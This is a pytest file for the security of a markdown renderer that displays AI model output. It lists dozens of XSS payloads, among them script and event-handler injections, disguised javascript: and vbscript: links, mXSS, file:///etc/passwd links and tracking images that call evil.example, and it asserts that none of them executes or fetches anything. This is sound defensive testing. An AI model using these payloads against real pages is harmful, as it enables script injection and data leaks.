"""Model output is hostile input: whatever markdown a reply holds, rendered whole or streamed,
no script runs, nothing is fetched from another site, and the page's CSP never has to step
in (a violation would mean the renderer produced something the policy had to block)."""

from __future__ import annotations

import pytest

from tests.harness.renderer import Watch

HOSTILE = {
    "script tag": "<script>alert('script')</script>",
    "img onerror": "<img src=x onerror=alert('img')>",
    "svg onload": "<svg onload=alert('svg')><script>alert('svg script')</script></svg>",
    "mathml mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "iframe": '<iframe src="javascript:alert(\'iframe\')"></iframe><object data="https://evil.example/o"></object>',
    "form": "<form action=\"javascript:alert('form')\"><button>go</button></form>",
    "raw link": "<a href=\"javascript:alert('raw a')\">click</a>",
    "inline link": "[click](javascript:alert('inline'))",
    "upper case scheme": "[click](JAVASCRIPT:alert('upper'))",
    "angle destination": "[click](<javascript:alert('angle')>)",
    "hex entity": "[click](jav&#x61;script:alert('hex'))",
    "decimal entity": "[click](&#106;avascript:alert('dec'))",
    "named entity colon": "[click](javascript&colon;alert('colon'))",
    "tab in scheme": "[click](java&#9;script:alert('tab'))",
    "vbscript": "[click](vbscript:msgbox('vb'))",
    "data html": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file": "[click](file:///etc/passwd)",
    "reference": "[click][evil]\n\n[evil]: javascript:alert('ref')",
    "reference angle title": "[evil2]\n\n[evil2]: <javascript:alert('ref2')> \"title\"",
    "autolink": "<javascript:alert('auto')> and <vbscript:msgbox(1)> and <data:text/html,hi>",
    "bare scheme": "javascript:alert('bare') and www.example.org",
    "title quotes": '[x](https://example.com "\\" onmouseover=alert(\'title\') x=\\"")',
    "image remote": "![tracking pixel](https://evil.example/pixel.png?secret=1)",
    "image protocol relative": "![a](//evil.example/proto.png)",
    "image javascript": "![a](javascript:alert('image'))",
    "image data svg": "![a](data:image/svg+xml,<svg onload=alert('data svg')>)",
    "image reference": "![a][img]\n\n[img]: https://evil.example/ref.png",
    "image in link": "[![a](https://evil.example/in-link.png)](https://example.com)",
    "image angle": '![a](<https://evil.example/angle.png> "t")',
    "code info string": "```\" onmouseover=\"alert('info')\nx\n```",
    "footnote label": "x[^<img src=x onerror=alert('fn')>]\n\n[^<img src=x onerror=alert(2)>]: y",
    "table cell": "| a |\n|---|\n| <img src=x onerror=alert('cell')> |",
    "task item": "- [ ] <input onfocus=alert('task') autofocus>",
    "tex href": "$\\href{javascript:alert('href')}{x}$ and $$\\href{https://evil.example}{y}$$",
    "tex url": "\\(\\url{javascript:alert('url')}\\)",
    "tex graphics": "$\\includegraphics{https://evil.example/tex.png}$",
    "tex html": "$\\htmlClass{x}{y}$ $\\htmlStyle{color:red}{z}$ $\\style{color:red}{w}$",
    "tex loop": "$\\def\\a{\\a\\a}\\a$",
    "tex color": "$\\color{red}{x} \\colorbox{blue}{y}$",
    "mermaid click": (
        '```mermaid\ngraph TD\n  A[Start] --> B\n  click A callback "run"\n'
        "  click B href \"javascript:alert('mermaid href')\"\n```"
    ),
    "mermaid html label": (
        '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\n'
        'graph LR\n  A["<img src=x onerror=alert(1)>"] --> B["<b onmouseover=alert(2)>b</b>"]\n```'
    ),
    "mermaid remote image": (
        '```mermaid\ngraph TD\n  A@{ img: "https://evil.example/shape.png", label: "p" }\n```'
    ),
    "mermaid css": (
        '```mermaid\n%%{init: {"themeCSS": "svg{background:url(https://evil.example/css.png)}"}}%%\n'
        "graph LR\n  A --> B\n  style B fill:#fff\n```"
    ),
    "mermaid sequence": "```mermaid\nsequenceDiagram\n  A->>B: <script>alert('seq')</script>\n```",
}


@pytest.fixture(scope="module")
def watch(render_page):
    return Watch(render_page)


def render_whole(page, text):
    return page.evaluate_handle("(text) => window.harness.checks.whole(text)", text)


def render_streamed(page, text):
    return page.evaluate_handle(
        "(text) => window.harness.checks.stream(text, { seed: 5 }).box", text
    )


@pytest.mark.parametrize("how", ["whole", "streamed"])
@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_markdown_runs_no_script_fetches_nothing_and_breaks_no_policy(
    render_page, watch, name, how
):
    watch.reset()
    render = render_whole if how == "whole" else render_streamed
    box = render(render_page, HOSTILE[name])
    render_page.evaluate("() => window.harness.diagramsSettled()")
    render_page.wait_for_timeout(50)  # let anything that would load or fire do so
    assert render_page.evaluate("(box) => window.harness.checks.unsafeNodes(box)", box) == []
    assert watch.ran() == []
    assert watch.offsite() == []
    assert watch.violations() == []
    assert render_page.errors == []


def test_unsafe_links_show_their_text_without_a_link(render_page):
    html = render_page.evaluate(
        "(md) => window.harness.renderMarkdown(md)",
        "[click](javascript:alert(1)) <vbscript:msgbox(1)> [ok](https://example.com) [rel](/a#b)",
    )
    assert html == (
        '<p>click vbscript:msgbox(1) <a href="https://example.com" target="_blank" '
        'rel="noopener noreferrer nofollow">ok</a> <a href="/a#b">rel</a></p>\n'
    )


def test_raw_html_is_shown_as_text(render_page):
    text = render_page.evaluate(
        "(md) => { const box = window.harness.checks.whole(md); return box.textContent; }",
        "<b>bold?</b> <script>x()</script>",
    )
    assert text.strip() == "<b>bold?</b> <script>x()</script>"


def test_images_are_links_to_the_image_and_never_fetched(render_page, watch):
    watch.reset()
    html = render_page.evaluate(
        "(md) => window.harness.renderMarkdown(md)",
        '![a cat](https://img.example/cat.png "Cat") '
        "[![inner](https://img.example/i.png)](https://example.com) "
        "![x](javascript:alert(1)) ![](https://img.example/no-alt.png)",
    )
    assert html == (
        '<p><a class="image-link" href="https://img.example/cat.png" title="Cat" target="_blank" '
        'rel="noopener noreferrer nofollow">a cat</a> '
        '<a href="https://example.com" target="_blank" '
        'rel="noopener noreferrer nofollow">inner</a> x <a class="image-link" '
        'href="https://img.example/no-alt.png" target="_blank" rel="noopener noreferrer nofollow">'
        "https://img.example/no-alt.png</a></p>\n"
    )
    render_whole(render_page, "![a cat](https://img.example/cat.png)")
    render_page.wait_for_timeout(50)
    assert watch.offsite() == []


def test_the_sanitiser_alone_removes_what_markdown_never_makes(render_page):
    # The second wall: even HTML the renderer would never produce comes out clean.
    html = render_page.evaluate(
        "(html) => window.harness.sanitize.sanitizeHtml(html)",
        '<a href="javascript:alert(1)" onclick="x()">a</a><img src="https://evil.example/i.png">'
        '<p style="color:red" data-x="1">p</p><input type="text" autofocus><script>x()</script>'
        '<math><mi style="color:red" mathcolor="red">x</mi>'
        '<maction actiontype="statusline">y</maction></math>'
        '<a href="https://ok.example" target="_top">ok</a><svg><use href="#x"/></svg>',
    )
    assert html == (
        '<a>a</a><p>p</p><input type="checkbox" disabled="">'
        '<math><mi mathcolor="red">x</mi>y</math>'
        '<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">ok</a>'
    )
